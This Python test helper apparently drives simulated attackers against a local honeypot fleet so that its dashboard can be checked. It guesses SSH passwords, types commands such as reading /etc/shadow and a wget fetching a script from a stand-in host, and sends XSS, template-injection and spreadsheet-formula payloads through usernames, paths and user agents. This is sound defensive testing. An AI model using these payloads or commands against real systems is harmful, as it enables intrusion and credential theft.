# SPDX-License-Identifier: MIT
"""Attackers with real clients, and what they write into every field that the dashboard shows."""

from __future__ import annotations

import asyncio
import functools
import http.client
import re
from collections.abc import Awaitable, Callable, Sequence

import asyncssh

HOSTILE = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><svg/onload=window.pwned=1>',
    "javascript:window.pwned=1",
    "{{constructor.constructor('window.pwned=1')()}}",
    "'-window.pwned=1-'",
    "</title><script>window.pwned=1</script>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "\u202egnp.exe",
    '=HYPERLINK("http://203.0.113.1")',
)
"""Texts that run somewhere, or look like something else, when a page takes them for more than text."""
COMMANDS = (
    "uname -a",
    "id",
    "cat /etc/passwd",
    "cat /etc/shadow",
    "wget http://198.51.100.23/x.sh -O /tmp/x",
    "ls -la",
)
ACCEPTED = "admin123"
"""A password with which a decky of the persona debian-web lets root in."""
PATIENCE = 120
"""Seconds that an attacker waits for an answer."""
_PROMPT = re.compile(r"[#$>] $")


@functools.cache
def key_named(name: str) -> asyncssh.SSHKey:
    """Return the key of that name: whoever shows it is one actor."""
    return asyncssh.generate_private_key("ssh-ed25519", comment=name)


async def attack(
    host: str, source: str, *, port: int = 2222, user: str = "root", passwords: Sequence[str] = ("123456", ACCEPTED),
    commands: Sequence[str] = COMMANDS, leaving: Callable[[], Awaitable[object]] | None = None, key: str = "",
) -> bool:  # fmt: skip
    """Guess passwords over SSH from `source`; once in, type the commands, wait for `leaving` and leave.

    Return whether a password was accepted; whatever else keeps the attacker from typing everything is an error.
    """
    for password in passwords:
        try:
            connection = await asyncssh.connect(
                host, port, username=user, password=password, local_addr=(source, 0), known_hosts=None,
                client_keys=[key_named(key)] if key else None, client_version="OpenSSH_9.2p1",
                connect_timeout=PATIENCE, login_timeout=PATIENCE,
            )  # fmt: skip
        except asyncssh.PermissionDenied:
            continue
        async with connection, connection.create_process(term_type="xterm", term_size=(100, 30)) as shell:
            prompt = await _prompt(shell)
            for command in commands:
                shell.stdin.write(f"{command}\n")
                prompt = await _prompt(shell)  # as somebody types: what a command shows comes before the next one
            if leaving is not None:
                await leaving()
            if not prompt.endswith("> "):  # a quote is open, so whoever wants to leave closes the window
                shell.stdin.write("exit\n")
                await asyncio.wait_for(shell.wait(), PATIENCE)
            return True
    return False


async def _prompt(shell: asyncssh.SSHClientProcess[str]) -> str:
    """Wait for the prompt, or for that of a line that goes on; return what came until then."""
    return await asyncio.wait_for(shell.stdout.readuntil(_PROMPT), PATIENCE)


def browse(host: str, source: str, paths: Sequence[str], *, agent: str = "curl/8.0", port: int = 8080) -> None:
    """Ask a decky's web server for pages from `source`."""
    for path in paths:
        connection = http.client.HTTPConnection(host, port, timeout=100, source_address=(source, 0))
        try:
            connection.putrequest("GET", path, skip_accept_encoding=True)
            connection.putheader("User-Agent", agent.encode("utf-8"))
            connection.endheaders()
            connection.getresponse().read()
        except (OSError, http.client.HTTPException):
            continue
        finally:
            connection.close()


async def fill(block: int) -> None:
    """Have a fleet in 127.77.`block`.0/24 attacked from many addresses, in every way that a page shows."""
    web, database = f"127.77.{block}.10", f"127.77.{block}.11"
    guesses = ("root", "123456")
    entered = await asyncio.gather(
        *(attack(web, f"127.9.8.{number}") for number in range(1, 4)),
        attack(web, "127.9.7.2", passwords=(ACCEPTED,), commands=[f"echo {text}" for text in HOSTILE]),
        *(attack(database, f"127.9.9.{number}", passwords=guesses) for number in range(1, 6)),
        attack(web, "127.9.7.1", user=HOSTILE[0], passwords=(HOSTILE[1], HOSTILE[2])),
        attack(web, "127.9.7.3", user=HOSTILE[6], passwords=HOSTILE[3:5]),
        asyncio.to_thread(_browse_hostile, web),
    )
    assert entered == [True] * 4 + [False] * 7 + [None], entered


def _browse_hostile(host: str) -> None:
    for number, text in enumerate(HOSTILE):
        path = "/" + "".join(f"%{byte:02x}" for byte in text.encode("utf-8"))
        browse(host, f"127.9.6.{number + 1}", (path, "/.env"), agent=text)
